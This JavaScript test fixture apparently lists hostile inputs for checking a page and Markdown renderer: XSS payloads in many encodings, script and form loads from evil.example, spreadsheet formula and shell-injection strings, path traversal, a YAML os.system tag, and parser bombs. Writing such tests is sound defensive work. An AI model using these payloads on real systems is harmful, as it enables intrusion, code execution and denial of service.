/* What hostile content tries, as tables: each payload stands for a way in, and
   RUN, where it runs, leaves a mark that the suite looks for. */
export const RUN = "window.pwned=1";
const HOST = "evil.example";

/* ---- links: every word that a browser might run, in every spelling ---- */

const words = ["javascript:", "vbscript:", "data:text/html,<script>", "data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg=="];
const at = (s, i, what) => s.slice(0, i) + what + s.slice(i);
const ref = (c, how) => how(c.charCodeAt(0));
const full = (s) => s.replace(/[!-~]/g, (c) => String.fromCharCode(c.charCodeAt(0) + 0xfee0));
const spellings = {
  plain: (s) => s,
  upper: (s) => s.toUpperCase(),
  mixed: (s) => s.replace(/./g, (c, i) => (i % 2 ? c.toUpperCase() : c)),
  tab: (s) => at(s, 4, "\t"),
  newline: (s) => at(s, 4, "\n"),
  return: (s) => at(s, 3, "\r"),
  nul: (s) => at(s, 4, "\0"),
  space: (s) => " " + s,
  control: (s) => "\u0001" + s,
  escape: (s) => "\u001b" + s,
  unbroken: (s) => "\u00a0" + s,
  wide: (s) => "\u3000" + s,
  mark: (s) => "\ufeff" + s,
  joiner: (s) => at(s, 2, "\u200b"),
  hyphen: (s) => at(s, 2, "\u00ad"),
  turned: (s) => "\u202e" + s,
  decimal: (s) => ref(s[0], (n) => `&#${n};`) + s.slice(1),
  hex: (s) => ref(s[0], (n) => `&#x${n.toString(16)};`) + s.slice(1),
  HEX: (s) => ref(s[0], (n) => `&#X00${n.toString(16).toUpperCase()}`) + " " + s.slice(1),
  padded: (s) => ref(s[0], (n) => `&#0000000${n}`) + ";" + s.slice(1),
  open: (s) => ref(s[0], (n) => `&#${n}`) + s.slice(1),
  all: (s) => s.replace(/[a-z]/g, (c) => ref(c, (n) => `&#${n};`)),
  colon: (s) => s.replace(":", "&colon;"),
  named: (s) => at(s, 4, "&Tab;"),
  line: (s) => at(s, 4, "&NewLine;"),
  twice: (s) => ref(s[0], (n) => `&amp;#${n};`) + s.slice(1),
  percent: (s) => ref(s[0], (n) => "%" + n.toString(16)) + s.slice(1),
  percented: (s) => s.replace(":", "%3A"),
  backslash: (s) => s.replace(":", "\\:"),
  fullwidth: (s) => full(s),
};
const places = ["view-source:javascript:", "jar:javascript:", "feed:javascript:", "blob:", "filesystem:https://" + HOST + "/", "mhtml:javascript:", "livescript:", "mocha:", "about:blank#", "file:///etc/passwd?",
  "DATA:image/svg+xml,<svg onload=", "data:application/xhtml+xml,<x ", "data:,", `//${HOST}/`, `///${HOST}/`, `\\\\${HOST}\\`, `/\\${HOST}/`, `\t//${HOST}/`, `https:${HOST}/`, `http:/\\${HOST}/`, "http:javascript:", "https://example.org@" + HOST + "/", "ftp://" + HOST + "/", "../../../../etc/passwd?", "..\\..\\x?", "?q=javascript:", "#javascript:"];
const links = [...words.flatMap((w) => Object.values(spellings).map((f) => f(w))), ...places];

/* ---- handlers: each element with its own, separators and quotes in turn ---- */

const handlers = { img: "onerror", svg: "onload", video: "onloadstart", audio: "onerror", body: "onload", input: "onfocus", select: "onfocus", textarea: "onfocus", details: "ontoggle", marquee: "onstart", iframe: "onload", object: "onerror",
  embed: "onload", form: "onsubmit", button: "onclick", a: "onmouseover", p: "onmouseenter", div: "onpointerover", table: "onclick", td: "onmouseover", th: "onfocus", math: "onclick", style: "onload", link: "onload", script: "onerror", html: "onmousemove",
  frameset: "onload", dialog: "onclose", progress: "onanimationend", x: "ontransitionend", article: "onclick", header: "onpaste", h2: "onclick", li: "ondrag", "image": "onerror", "svg><animate": "onbegin", "svg><set": "onend", "svg><a": "onclick" };
const between = [" ", "/", "\n", "\t", "\f", " x/", "\u3000", " \0"];
const quotes = [(s) => s, (s) => `"${s}"`, (s) => `'${s}'`, (s) => "`" + s + "`", (s) => s.replace("=", "&#61;")];
const more = { img: "src=x ", input: "autofocus ", select: "autofocus ", textarea: "autofocus ", details: "open ", video: "src=x ", audio: "src=x ", object: "data=x ", script: "src=x:x ", link: "rel=stylesheet href=x " };
const onEach = Object.entries(handlers).map(([tag, on], i) => `<${tag}${between[i % between.length]}${more[tag] || ""}${on}=${quotes[i % quotes.length](RUN)}>`);
const onImage = between.flatMap((b) => quotes.map((q) => `<img src=x:x${b}ONERROR${b === " " ? " " : ""}=${q(RUN)}>`));
const outOf = ["\">", "'>", "`>", "\"", "'", "&quot;>", "&#34;>", "\\\">", "\" ", "' "].map((s, i) => (s.includes(">") ? `${s}<img src=x onerror=${RUN}>` : `${s} autofocus onfocus=${RUN} x=${i}`));

/* ---- scripts, and elements that fetch, send or lead away ---- */

const script = `<script>${RUN}</script>`;
const closers = ["title", "textarea", "style", "script", "noscript", "noembed", "noframes", "xmp", "plaintext", "iframe", "template", "article", "svg", "math", "select", "option", "pre", "code", "a", "p", "table"].map((t) => `</${t}>${script}`);
const scripts = [script, `<ScRiPt >${RUN}</sCrIpT >`, `<script/x>${RUN}</script/x>`, `<script\n>${RUN}</script\n>`, `<script\t>${RUN}</script\t>`, `<script x=">">${RUN}</script>`, `<scr<script>ipt>${RUN}</script>`, `<script>${RUN}`, `<script <b>${RUN}</script>`,
  `<<script>${RUN}//<</script>`, `<\0script>${RUN}</script>`, `<scr\0ipt>${RUN}</script>`, `< script>${RUN}</ script>`, `\u003cscript\u003e${RUN}`, `＜script＞${RUN}＜/script＞`, `<script src=//${HOST}/x.js></script>`, `<script src=data:,${RUN}></script>`, `<script type=module>${RUN}</script>`, `<script type=text/vbscript>MsgBox</script>`,
  `<svg>${script}</svg>`, `<svg><script href=data:,${RUN} /></svg>`, `<svg><![CDATA[</svg>${script}]]>`, `<svg><foreignObject>${script}`, `<svg><use href="data:image/svg+xml,<svg id=x>#x">`, `<math><mtext>${script}</mtext></math>`, `<math href="javascript:${RUN}">x</math>`, `<math><maction actiontype="statusline#javascript:${RUN}">`,
  `<template>${script}</template>`, `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`, `<xmp><p title="</xmp>${script}">`, `<style><!--</style>${script}-->`, `<listing>&lt;img src=x onerror=${RUN}&gt;</listing>`,
  "<!--<script>", `<!-- --!>${script}`, `--!>${script}`, `-->${script}`, `<!-->${script}`, `<!--->${script}`, `<!${script}`, `<?${script}?>`, `<![CDATA[${script}]]>`, `]]>${script}`, "]]>", "]]]]><![CDATA[>", `<!--[if IE]>${script}<![endif]-->`, `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "b">]>&a;`, `<!DOCTYPE x SYSTEM "http://${HOST}/x">`, "<?php x ?>", "<% x %>"];
const elements = [`<iframe src="javascript:parent.${RUN}"></iframe>`, `<iframe srcdoc="<script>parent.${RUN}</script>">`, `<frameset><frame src=//${HOST}>`, `<object data="data:text/html,${script}">`, `<embed src="javascript:${RUN}">`, `<applet code=x>`, `<base href="https://${HOST}/">`, `<base target=_top>`,
  `<meta http-equiv=refresh content="0;url=https://${HOST}/">`, `<meta http-equiv=refresh content="0;url=data:text/html,${script}">`, `<meta http-equiv=Content-Security-Policy content="script-src *">`, `<meta charset=utf-7>+ADw-script+AD4-${RUN}`, `<link rel=stylesheet href=https://${HOST}/x.css>`, `<link rel=import href=//${HOST}>`, `<link rel=manifest href=//${HOST}>`, `<link rel=dns-prefetch href=//${HOST}>`,
  `<style>@import 'https://${HOST}/x'</style>`, `<style>*{background:url(//${HOST})}</style>`, `<p style="background:url(https://${HOST}/x)">`, `<p style="width:expression(${RUN})">`, `<p style="behavior:url(x.htc)">`, `<p style="position:fixed;inset:0">`, `<form action=https://${HOST}/><button>x`, `<form action="javascript:${RUN}"><button autofocus>x`, `<button formaction="javascript:${RUN}">x`, `<input type=image src=//${HOST}/x>`,
  `<img src=//${HOST}/x.png>`, `<img srcset="//${HOST}/x 1x">`, `<picture><source srcset=//${HOST}/x>`, `<video poster=//${HOST}/x>`, `<audio src=//${HOST}/x autoplay>`, `<track src=//${HOST}/x>`, `<body background=//${HOST}/x>`, `<table background=//${HOST}/x>`, `<q cite=javascript:${RUN}>x</q>`, `<blockquote cite="javascript:${RUN}">`, `<ins cite="javascript:${RUN}">`, `<a ping=//${HOST} href=x>x</a>`, `<a href="javascript:${RUN}" target=_blank rel=opener>x</a>`,
  `<svg><image href=//${HOST}/x /></svg>`, `<svg><a xlink:href="javascript:${RUN}"><text>x</text></a></svg>`, `<svg><animate attributeName=href values="javascript:${RUN}"></svg>`, `<img name=jiebao><img id=search>`, `<form name=document><input name=body>`, `<a id=s1 name=main>x</a>`, `<slot><p slot=x>`, "<plaintext>", "<isindex>", "<keygen>", "<noembed>", "<!doctype html><html><head></head>"];

/* ---- what lies inside strings, feeds, tables, terminals ---- */

const strings = ["&lt;script&gt;" + RUN + "&lt;/script&gt;", "&amp;lt;script&amp;gt;", "&#60;script&#62;" + RUN, "&#x3c;script>" + RUN, "&LT;script&GT;" + RUN, "\\u003cscript\\u003e" + RUN, "\\x3cscript\\x3e" + RUN, "%3Cscript%3E" + RUN, "+ADw-script+AD4-" + RUN, "{{title}} {{{title}}} {{#reports}}", "{{{title", "{{/report}}", "{{>head}}", "{{! }}", "${" + RUN + "}", "`${" + RUN + "}`", "{% x %} <%= x %>", "#{x} @{x} [[x]]",
  "\u2028" + RUN + "\u2029", "\u0085" + RUN, "\");" + RUN + ";//", "');" + RUN + ";//", "\\\");" + RUN + "//", "\\", "\\'", "\\\\\"", "*/" + RUN + "/*", "//", "jiebao.shard(\"x\",\"y\")", "</script><!--<script>", "constructor __proto__ toString hasOwnProperty valueOf", "__proto__", "prototype.polluted", "__defineGetter__", "NaN Infinity -0 1e999 null undefined"];
const cells = ["=cmd|'/C calc'!A0", "+1+1", "-1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(1,1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u00a0=1+1", "\ufeff=1+1", "\u200b=1+1", "=HYPERLINK(\"https://" + HOST + "\")", "=IMPORTXML(1,1)", "=DDE(1;2)", "＝1+1", "＋1", "－1+1", "＠x", "\"=1+1", "',=1+1", ",\n=1+1", "%0A=1+1", ";=1+1", "|calc"];
const control = ["\u202egnp.exe", "\u2066\u2067\u2068abc\u2069", "\u061c\u200e\u200f", "\u200b\u2060\ufeff", "\ufffe\uffff", "\udb40\udc01\udb40\udc41", "\u0000", "a\0b", "\u0007\u001b[31m\u009b31m", "\u001b]0;x\u0007", "\u001b]8;;http://" + HOST + "\u001b\\", "\u001b[2J\u001b[H", "\r\u001b[K", "\u0008\u0008\u0008", "\u007f", "\u0090x\u009c", "a\u0301".repeat(200), "\u0300".repeat(300), "\ufdfa".repeat(100), "\u{e0001}", "\ue000\uf8ff\u{10ffff}"];
const paths = ["../../../etc/passwd", "..\\..\\x", "/etc/passwd", "C:\\x", "\\\\" + HOST + "\\x", "~/x", "con", "nul.html", "a:b", "%2e%2e%2f", "%00", "..%c0%af", "x/../../y", ".", "..", "...", "index", "search/manifest", "$(id)", "`id`", "; rm -rf x", "| id", "& calc", "-rf", "--force"];
const markdown = ["# x\n\n---\ntitle: 二\n---\n", "---", "...", "+++\ntitle = x\n+++", "- [ ] x", "[a]: javascript:" + RUN + "\n\n[a]", "[a]: <javascript:" + RUN + ">\n\n![a]", "[x](x \"y\" onclick=\"" + RUN + "\")", "[x](<x\" onclick=" + RUN + ">)", "[x](x 'y\" onclick=" + RUN + "')", "![x\" onerror=" + RUN + "](x)", "```\n</code></pre>" + script + "\n```", "```\"onclick=" + RUN + "\nx\n```", "    " + script, "`" + script + "`", "\\<script>" + RUN + "\\</script>", "<a\n\nonclick=" + RUN + ">", "<" + RUN + "@x.example>", "<javascript:" + RUN + ">", "[x](javascript&#58;" + RUN + ")", "[x][javascript:" + RUN + "]", "[^1]: javascript:" + RUN, "<div markdown=1>" + script + "</div>", "&#91;x](javascript:" + RUN + ")", "|a|b|\n|--|--|\n|" + script + "|=1|", "# <a id=main onclick=" + RUN + ">", "## x {#y onclick=" + RUN + "}", "[x](#\" onclick=\"" + RUN + ")",
  "[".repeat(300) + "x", "]".repeat(300), "*".repeat(500), "_a ".repeat(300), "> ".repeat(150) + "x", "- ".repeat(150) + "x", "<a ".repeat(300), "<".repeat(500), "&".repeat(500), "&#x".repeat(300), "\\".repeat(501), "|".repeat(300), "`".repeat(301), "#".repeat(300), "1. ".repeat(100), "![[]()".repeat(100), "[x](".repeat(200), "<!".repeat(300), "\n".repeat(300) + "x"];

/* {kind, text}: text goes into every field and every place of a text; of links,
   what is before the part that runs. */
export const attacks = Object.entries({ link: links, handler: [...onEach, ...onImage, ...outOf], script: [...scripts, ...closers], element: elements, string: strings, cell: cells, control, path: paths, markdown })
  .flatMap(([kind, list]) => [...new Set(list)].map((text) => ({ kind, text })));

/* ---- front matter, file names ---- */

export const fronts = { anchor: "title: &a x\nstreet: *a", bomb: "a: &a [x,x]\nb: &b [*a,*a]\nc: [*b,*b]\ntitle: x", self: "a: &a [*a]\ntitle: x", deep: "title: " + "[".repeat(20000), nested: "title: x\nx: " + "{a: ".repeat(5000) + "1" + "}".repeat(5000),
  blocks: "title: x\n" + Array.from({ length: 3000 }, (_, i) => " ".repeat(i) + "a:").join("\n"), twice: "title: a\ntitle: b", tag: "title: !!python/object:os.system x", binary: "title: !!binary AAAA", own: "title: !x y", js: "js\ntitle: x", toml: "title = x", long: "title: " + "长".repeat(500000),
  many: Array.from({ length: 20000 }, (_, i) => `k${i}: v`).join("\n") + "\ntitle: x", merge: "<<: {title: x}", directive: "%YAML 9.9\ntitle: x", documents: "title: x\n--- \ntitle: y", end: "title: x\n...\ntitle: y", tabs: "title:\tx\n\tstreet: y", complex: "? [a, b]\n: c\ntitle: x", list: "- title: x", scalar: "x", nul: "title: a\0b", bad: "title: \ufffe", huge: "id: 99999999999999999999\ntitle: x", minus: "id: -1\ntitle: x", hex: "id: 0x10\ntitle: x", date: "published: 2021-02-30\ntitle: x", years: "summary_years: 0000-9999\ntitle: x" };
export const names = ["con", "CON", "aux", "prn", "nul", "com1", "lpt1", "lpt9", "con.x", "Case", "case", "CASE", "caf\u00e9", "cafe\u0301", "ﬁ", "fi", "a b", "x\u202ey", "..x", "a..b", "-x", "x\ny", "x.", ".x", "x~", "~x", "a\\b", "a:b", "a?b", "a#b", "a%2fb", "a&b", "a<b", "a\"b", "a'b", "长", "a".repeat(81), "a".repeat(200), "index", "constructor", "__proto__", "\u{1f600}"];

/* ---- bombs: an input each, and Markdown each ---- */

const lots = (s, n) => s.repeat(n);
export const bombs = { "div.html": lots("<div>", 200000), "b.html": lots("<b>", 50000) + "<p>x", "abiu.html": lots("<a><b><i><u>", 50000), "attrs.html": "<p " + Array.from({ length: 200000 }, (_, i) => "a" + i).join(" ") + ">x", "table.html": lots("<table><tr><td>", 30000), "cells.html": "<table><tr>" + lots("<td>x", 200000),
  "span.html": "<table><tr><td rowspan=65534 colspan=1000>x" + lots("<tr><td rowspan=65534 colspan=1000>", 3000), "lists.html": lots("<ul><li>", 50000), "entities.html": lots("&lt;", 300000), "comment.html": lots("<!--", 200000), "cdata.html": lots("<svg><![CDATA[", 50000), "select.html": lots("<select><option>", 50000), "formatting.html": lots("<p><font><nobr>", 20000), "script.html": lots("<script>", 100000), "forms.html": lots("<form><svg><desc>", 30000),
  "frames.html": lots("<frameset>", 100000), "templates.html": lots("<template>", 50000), "closers.html": lots("</p></br></div>", 200000), "attribute.html": "<p title=\"" + lots("x", 5000000) + "\">x", "text.html": "<p>" + lots("长", 2000000), "metas.html": lots("<meta charset=gbk>", 100000), "bases.html": lots("<base href=//x.example/>", 100000),
  "line.txt": lots("长", 3000000), "lines.txt": lots("一、\n", 200000), "labels.txt": lots("索引号：\n发布机构：", 100000), "dates.txt": lots("2021年1月1日", 200000), "brackets.txt": "2022年街道工作总结\n" + lots("![[]()", 60000), "lists.txt": lots("- ", 64000) + "x" + lots("\n", 64000), "stars.txt": lots("*a_ ", 100000), "numbers.txt": "2022年街道工作总结\n" + Array.from({ length: 60000 }, (_, i) => `（${i}）x`).join("\n"), "spaces.txt": lots(" \u3000\t", 1000000), "bars.txt": lots("|", 1000000), "quotes.txt": lots("“”‘’《》", 200000) };
export const marks = { brackets: lots("![[]()", 60000), lists: lots("- ", 64000) + "x" + lots("\n", 64000), quotes: lots("> ", 50000), emphasis: lots("*a **a ", 40000), stars: lots("*a_ ", 60000), closing: lots("a**b" + lots("c* ", 100), 500), underscores: lots("_", 100000) + "a" + lots("_", 100000), openers: lots("[", 60000), nested: lots("[", 30000) + "a" + lots("]", 30000), links: lots("[a](", 60000), parens: "[a](" + lots("(", 60000), dest: lots("[a](<b", 40000), refs: lots("[a]: x\n", 40000), many: Array.from({ length: 20000 }, (_, i) => `[a${i}]: x\n`).join("") + lots("[a1] ", 20000), unclosed: lots("[x](", 30000) + lots("\n", 10),
  ticks: Array.from({ length: 3000 }, (_, i) => "e" + "`".repeat(i)).join(""), html: lots("<?", 100000), comments: "<!--" + lots("<!-- ", 60000), declarations: lots("<!A ", 60000), cdata: lots("<![CDATA[", 60000), tags: lots("<a b=", 60000), tables: lots("|a", 50000) + "\n" + lots("|-", 50000) + "\n", rows: "|a|\n|-|\n" + lots("|x|\n", 60000), entities: lots("&amp", 100000), hash: lots("&#x", 100000), backslashes: lots("\\", 200000), fences: lots("~~~\n", 60000), rules: lots("* * *\n", 60000), setext: lots("a\n===\n", 30000), deepquotes: lots("> ", 5000) + "*" + lots("a", 50000), lazy: lots("> ", 180) + "x\n" + lots("x\n", 30000), numbers: lots("1. ", 30000), tabs: lots("\t", 200000) + "x", autolinks: lots("<a@a.", 60000), pairs: lots("**x [a*b**c*](d)", 20000), nulls: lots("abc\ude00 ", 10000) };
